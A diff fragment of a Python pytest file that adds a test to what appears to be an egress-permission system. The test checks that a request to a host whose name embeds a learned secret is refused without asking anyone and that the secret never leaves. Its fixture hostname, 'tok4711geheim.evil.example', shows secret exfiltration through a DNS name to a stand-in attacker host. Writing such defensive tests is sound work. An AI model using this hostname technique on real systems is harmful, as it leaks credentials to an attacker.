@@ -50,6 +50,16 @@ def value(result: dict[str, Any]) -> list[Any]:
     return found
 
 
+@pytest.mark.claim("secrets:never-shown")
+def test_nobody_is_asked_about_a_host_whose_name_holds_a_secret(site: Origin, tmp_path: Path) -> None:
+    one = served(tmp_path)
+    one.host.secrets.redactor.learn(["tok4711geheim"])
+    result = send(one, site, says("always"), host="tok4711geheim.evil.example")
+    assert value(result) == REFUSED
+    assert one.questions == []
+    assert "tok4711geheim" not in str(one.wire.sent)
+
+
 def test_a_request_that_is_allowed_once_is_sent_by_the_call_that_waited(site: Origin, tmp_path: Path) -> None:
     one = served(tmp_path)
     result = send(one, site, says("once"))
